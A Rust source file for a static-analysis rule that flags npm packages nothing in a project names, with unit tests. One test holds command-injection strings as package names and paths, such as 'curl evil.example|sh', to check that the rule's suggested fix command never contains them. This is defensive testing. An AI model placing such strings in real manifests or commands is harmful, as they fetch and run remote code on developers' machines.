//! Packages that the app asks for and that nothing in the project names.
//!
//! A name anywhere in the project's texts counts as a use, in a comment too: a false alarm here breaks an app.

use std::collections::BTreeSet;

use rayon::prelude::*;
use regex::Regex;
use serde_json::Value;
use tokio_util::sync::CancellationToken;

use super::{Repo, is_aside, is_lock, listed, name_of, named};
use crate::model::{Confidence, Coverage, Finding, Location, RuleKind, RuleMeta, Severity, Span};
use crate::probe::files::FileEntry;
use crate::probe::packages::{Declared, Ecosystem, LockFile, Manager, Manifest, Packages, Scope, is_taken_in, typed};
use crate::probe::repository::manifests;
use crate::probe::repository::repo::folder_of;

/// The rule.
pub static META: RuleMeta = RuleMeta {
    id: "dependency-unused",
    title: "Nothing in the project names a package that it installs",
    kind: RuleKind::Finding,
    severity: Severity::Minor,
    confidence: Confidence::Medium,
    what: "Looks in every text of the project for the names of the packages that `package.json` installs in production; what frameworks, builders and other packages take in by themselves is left aside.",
    why: "Each leftover can carry a hole, run a program when it is installed, and make the page heavier for your visitors.",
    fix: "Remove it, then run the tests and the production build, and commit the smaller lock file.",
    example: "# package.json still asks for moment, the code uses date-fns\nnpm uninstall moment",
    references: &["C53"],
};

/// So many names are looked for at once.
const ROUND: usize = 1_000;

/// One finding for each manifest, and how far the rule got.
pub fn look(repo: &Repo, packages: &Packages, cancel: &CancellationToken) -> (Vec<Finding>, Coverage) {
    let asked: Vec<(&Manifest, &LockFile, Vec<&Declared>)> =
        packages.manifests.values().filter_map(|manifest| in_question(packages, manifest)).collect();
    let names: BTreeSet<&str> = asked.iter().flat_map(|(_, _, all)| all.iter().map(|one| called(one))).collect();
    let limits = limits(repo, packages);
    if names.is_empty() {
        return (Vec::new(), limits);
    }
    let texts: Vec<&FileEntry> = repo.entries().filter(|file| is_looked_into(&file.path)).collect();
    let (used, unread) = uses(&names, &texts, cancel);
    if cancel.is_cancelled() {
        return (Vec::new(), Coverage::Nothing("the run was cancelled".to_owned()));
    }
    if unread > 0 {
        return (
            Vec::new(),
            Coverage::Nothing(format!("{unread} files of code could not be read, which may use any package")),
        );
    }
    let found = asked.iter().filter_map(|(manifest, lock, all)| {
        let unused: Vec<&Declared> = all.iter().copied().filter(|one| !used.contains(called(one))).collect();
        finding(manifest, lock, &unused)
    });
    (found.collect(), limits)
}

/// What of the project's packages is never told, whatever its texts say: how far the rule can get at best.
fn limits(repo: &Repo, packages: &Packages) -> Coverage {
    let product = || packages.manifests.values().filter(|manifest| !is_aside(&manifest.path));
    if let Some(why) = manifests::unread(repo, packages).or_else(|| manifests::unclear(product())) {
        return Coverage::Part(why);
    }
    let asks =
        |manifest: &&Manifest| manifest.declared.iter().any(|one| one.scope == Scope::Production && !one.optional);
    let asking: Vec<&Manifest> = product().filter(asks).collect();
    if asking.is_empty() {
        return Coverage::Absent("no manifest asks for packages of production".to_owned());
    }
    let other = asking.iter().find(|manifest| name_of(&manifest.path) != "package.json");
    Coverage::Part(match (other, asking.iter().find(|manifest| lock_of(packages, manifest).is_none())) {
        (Some(one), _) => format!("Packages of `{}` are not looked for, only those of `package.json`", one.path),
        (None, Some(one)) => format!("No lock file says which packages of `{}` others need", one.path),
        (None, None) => {
            "A package that a text only mentions, or that a framework may take in, counts as used".to_owned()
        }
    })
}

/// The lock file that answers for a `package.json`.
fn lock_of<'a>(packages: &'a Packages, manifest: &Manifest) -> Option<&'a LockFile> {
    let answers = |lock: &&LockFile| {
        lock.manager.ecosystem() == Ecosystem::Npm && lock.roots.iter().any(|root| root.manifest == manifest.path)
    };
    packages.locks.iter().find(answers)
}

fn called(declared: &Declared) -> &str {
    declared.alias.as_deref().unwrap_or(&declared.name)
}

/// The packages of a manifest that would have to be named somewhere, were they used. Only where a lock file tells who
/// else needs them.
fn in_question<'a>(
    packages: &'a Packages,
    manifest: &'a Manifest,
) -> Option<(&'a Manifest, &'a LockFile, Vec<&'a Declared>)> {
    if name_of(&manifest.path) != "package.json" || is_aside(&manifest.path) {
        return None;
    }
    let lock = lock_of(packages, manifest)?;
    let needed: BTreeSet<&str> = lock
        .packages
        .iter()
        .flat_map(|package| package.needs.iter().filter_map(|need| lock.packages.get(*need)))
        .map(|package| package.name.as_str())
        .collect();
    let own = |name: &str| packages.manifests.values().any(|other| other.name.as_deref() == Some(name));
    let all: Vec<&Declared> = manifest
        .declared
        .iter()
        .filter(|one| one.scope == Scope::Production && !one.optional)
        .filter(|one| !needed.contains(one.name.as_str()) && !is_taken_in(Ecosystem::Npm, &one.name) && !own(&one.name))
        .collect();
    (!all.is_empty()).then_some((manifest, lock, all))
}

/// Whether a mention in this file counts as a use: not in prose, lists of changes, and lock files.
fn is_looked_into(path: &str) -> bool {
    let name = name_of(path).to_ascii_lowercase();
    let prose = [".md", ".rst", ".txt", ".lock", ".svg", ".map", ".csv", ".po"].iter().any(|end| name.ends_with(end));
    let about_updates =
        name.starts_with("renovate") || name.starts_with(".renovaterc") || name.starts_with("dependabot");
    !prose && !about_updates && !is_lock(path) && !name.starts_with("license") && !name.starts_with("changelog")
}

/// The names that some text names, and how many files of code could not be read.
fn uses<'a>(names: &BTreeSet<&'a str>, texts: &[&FileEntry], cancel: &CancellationToken) -> (BTreeSet<&'a str>, usize) {
    let mut sorted: Vec<&str> = names.iter().copied().collect();
    // Where one name begins another, the longer one is meant.
    sorted.sort_by_key(|name| std::cmp::Reverse(name.len()));
    let rounds: Vec<Regex> = sorted
        .chunks(ROUND)
        .filter_map(|names| {
            Regex::new(&names.iter().map(|name| regex::escape(name)).collect::<Vec<_>>().join("|")).ok()
        })
        .collect();
    let read: Vec<Option<BTreeSet<&'a str>>> = texts
        .par_iter()
        .map(|file| {
            if cancel.is_cancelled() {
                return Some(BTreeSet::new());
            }
            match file.read() {
                Ok(text) if file.name() == "package.json" => Some(in_manifest(names, &text)),
                Ok(text) => Some(rounds.iter().flat_map(|round| mentions(names, round, &text)).collect()),
                Err(_) if is_code(file.extension()) => None,
                Err(_) => Some(BTreeSet::new()),
            }
        })
        .collect();
    let unread = read.iter().filter(|one| one.is_none()).count();
    (read.into_iter().flatten().flatten().collect(), unread)
}

fn is_code(extension: &str) -> bool {
    matches!(
        extension,
        "js" | "jsx"
            | "mjs"
            | "cjs"
            | "ts"
            | "tsx"
            | "mts"
            | "cts"
            | "vue"
            | "svelte"
            | "astro"
            | "mdx"
            | "coffee"
            | "css"
            | "scss"
            | "less"
            | "html"
    )
}

fn mentions<'a>(names: &BTreeSet<&'a str>, round: &Regex, text: &str) -> Vec<&'a str> {
    let part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_');
    round
        .find_iter(text)
        .filter(|found| {
            let before = text.get(..found.start()).and_then(|text| text.chars().next_back());
            let after = text.get(found.end()..).and_then(|text| text.chars().next());
            !before.is_some_and(|c| part(c) || c == '@') && !after.is_some_and(part)
        })
        .filter_map(|found| names.get(found.as_str()).copied())
        .collect()
}

/// A manifest names its packages; a use is what it says beside that. Programs in its scripts are often called after a part
/// of the package's name: `nest` of `@nestjs/cli`.
fn in_manifest<'a>(names: &BTreeSet<&'a str>, text: &str) -> BTreeSet<&'a str> {
    let Ok(mut json) = serde_json::from_str::<Value>(text) else { return names.clone() };
    if let Some(table) = json.as_object_mut() {
        for key in [
            "dependencies",
            "devDependencies",
            "peerDependencies",
            "peerDependenciesMeta",
            "optionalDependencies",
            "overrides",
            "resolutions",
            "description",
            "keywords",
            "name",
        ] {
            table.remove(key);
        }
    }
    let scripts: String = json.get("scripts").map(Value::to_string).unwrap_or_default();
    let words: Vec<&str> = scripts.split(|c: char| !c.is_ascii_alphanumeric()).filter(|word| word.len() >= 2).collect();
    let rest = json.to_string();
    let part_of = |name: &str| {
        name.split(|c: char| !c.is_ascii_alphanumeric())
            .filter(|part| part.len() >= 3)
            .any(|part| words.iter().any(|word| part.starts_with(word) || word.starts_with(part)))
    };
    names.iter().copied().filter(|name| rest.contains(name) || part_of(name)).collect()
}

fn finding(manifest: &Manifest, lock: &LockFile, unused: &[&Declared]) -> Option<Finding> {
    let first = unused.first()?;
    let all = named(unused.iter().map(|one| called(one)), 4);
    let message = match unused.len() {
        1 => format!("`{}` installs {all}, and nothing in the project names it", manifest.path),
        _ => format!("`{}` installs {all}, and nothing in the project names them", manifest.path),
    };
    let command = match lock.manager {
        Manager::Pnpm => "pnpm remove",
        Manager::YarnClassic | Manager::YarnBerry => "yarn remove",
        Manager::Bun => "bun remove",
        _ => "npm uninstall",
    };
    let names: Vec<&str> = unused.iter().map(|one| called(one)).collect();
    // Names come from strangers: one that a shell would read as more than a name is not put into a command.
    let typed = names.iter().all(|name| typed::is_plain(name)).then(|| format!("{command} {}", names.join(" ")));
    let fix = match typed.and_then(|command| typed::in_folder(folder_of(&manifest.path), &command)) {
        Some(command) => format!("Run `{command}`, then the tests and the production build."),
        None => "Remove what is listed here from the manifest, install, and run the tests and the production build."
            .to_owned(),
    };
    let lines: Vec<String> = unused.iter().map(|one| format!("line {}  {}", one.line, called(one))).collect();
    let location = Location::File { path: manifest.path.clone(), span: Some(Span::line(first.line)) };
    Some(Finding::new(&META, location, "unused", message).fix(fix).evidence(listed(&lines)))
}

#[cfg(test)]
mod tests {
    use super::super::samples;
    use super::*;

    fn repo(files: &[(&str, &str)]) -> (tempfile::TempDir, Repo) {
        let folder = crate::probe::samples::folder(files);
        let repo = Repo::open(folder.path(), &[], &CancellationToken::new());
        (folder, repo)
    }

    fn told(files: &[(&str, &str)], asks: &[&str], locked: &[&str]) -> (Vec<String>, Coverage) {
        let (_folder, repo) = repo(files);
        let lock = samples::lock(Manager::Npm, "package-lock.json", "package.json", locked);
        let packages = samples::packages(vec![samples::manifest("package.json", asks)], vec![lock]);
        let (found, coverage) = look(&repo, &packages, &CancellationToken::new());
        (found.iter().map(|f| format!("{} {}", f.location, f.fix)).collect(), coverage)
    }

    #[test]
    fn what_no_text_names_is_told_with_the_command() {
        let files = [
            ("src/app.js", "import axios from 'axios';\nimport merge from 'lodash.merge';\n"),
            ("README.md", "Uses picomatch and got.\n"),
            (
                "package.json",
                "{\"scripts\": {\"start\": \"pm3 start\"}, \"dependencies\": {\"picomatch\": \"^2\", \"got\": \"^14\"}}",
            ),
        ];
        let (seen, coverage) = told(
            &files,
            &["axios ^1", "picomatch ^2", "lodash.merge ^4", "got ^14", "pm3-runner ^1"],
            &["axios 1.0.0 ^1"],
        );
        assert_eq!(
            seen,
            ["package.json:4 Run `npm uninstall picomatch got`, then the tests and the production build."]
        );
        assert!(matches!(coverage, Coverage::Part(_)), "silence is no evidence");
    }

    #[test]
    fn a_command_holds_nothing_but_names() {
        let finding = |path: &str, ask: &str| {
            let manifest = samples::manifest(path, &[ask]);
            let lock = samples::lock(Manager::Npm, "package-lock.json", path, &[]);
            super::finding(&manifest, &lock, &[&manifest.declared[0]]).unwrap().fix
        };
        assert!(finding("apps/web/package.json", "zod ^4").starts_with("Run `cd apps/web && npm uninstall zod`"));
        assert!(finding("my shop/package.json", "zod ^4").starts_with("Run `cd \"my shop\" && npm uninstall zod`"));
        for (path, ask) in [
            ("package.json", "x;curl${IFS}evil.example ^1"),
            ("package.json", "--global ^1"),
            ("a;curl evil.example|sh/package.json", "zod ^4"),
        ] {
            let fix = finding(path, ask);
            assert!(!fix.contains('`') && !fix.contains("evil") && !fix.contains("--global"), "{fix}");
        }
    }

    #[test]
    fn what_others_take_in_is_not_told() {
        let files = [
            ("src/app.js", "run();\n"),
            ("config/build.yml", "presets: [odd-preset]\n"),
            ("a.css", "@import 'normal.css/x';"),
        ];
        let asks =
            ["@types/x ^1", "react-dom ^19", "sharp ^1", "postcss-foo ^1", "odd-preset ^1", "normal.css ^1", "peer ^1"];
        let (_folder, repo) = repo(&files);
        let mut lock =
            samples::lock(Manager::Npm, "package-lock.json", "package.json", &["needy 1.0.0", "peer 1.0.0 ^1"]);
        lock.packages[0].needs = vec![1];
        let packages = samples::packages(vec![samples::manifest("package.json", &asks)], vec![lock]);
        assert_eq!(look(&repo, &packages, &CancellationToken::new()).0, []);
    }

    #[test]
    fn what_is_never_looked_for_is_no_silence() {
        let (_folder, repo) = repo(&[("src/app.js", "import 'axios';")]);
        let how = |manifests: Vec<Manifest>, locks| {
            look(&repo, &samples::packages(manifests, locks), &CancellationToken::new()).1
        };
        let says =
            |how: Coverage, word: &str| assert!(matches!(&how, Coverage::Part(why) if why.contains(word)), "{how:?}");
        let node = || samples::manifest("package.json", &["react ^19"]);
        let lock = || samples::lock(Manager::Npm, "package-lock.json", "package.json", &["react 19.0.0 ^19"]);
        assert!(matches!(how(vec![samples::manifest("package.json", &[])], vec![]), Coverage::Absent(_)));
        assert!(matches!(how(vec![samples::manifest("tests/package.json", &["a ^1"])], vec![]), Coverage::Absent(_)));
        says(how(vec![node()], vec![lock()]), "framework");
        says(how(vec![node()], vec![]), "No lock file");
        says(
            how(vec![node(), samples::manifest("api/pyproject.toml", &["flask"])], vec![lock()]),
            "`api/pyproject.toml`",
        );
        let mut open = samples::manifest("Gemfile", &[]);
        open.gaps.add(crate::probe::packages::manifest::reason::DYNAMIC, "line 2");
        says(how(vec![node(), open], vec![lock()]), "`Gemfile` has 1 entry");
        let (_folder, broken) = super::tests::repo(&[("package.json", "{")]);
        says(look(&broken, &Packages::default(), &CancellationToken::new()).1, "`package.json` was not understood");
    }

    #[test]
    fn a_name_within_another_is_no_mention_and_unread_code_silences() {
        let (seen, _) =
            told(&[("a.js", "import x from 'my-got'; import y from '@got'; forgotten")], &["got ^1"], &["x 1.0.0"]);
        assert_eq!(seen.len(), 1);
        let (seen, coverage) = told(&[("a.js", "x"), ("b.js", "\0\0")], &["got ^1"], &["x 1.0.0"]);
        assert!(seen.is_empty() && matches!(coverage, Coverage::Nothing(_)), "{coverage:?}");
    }
}
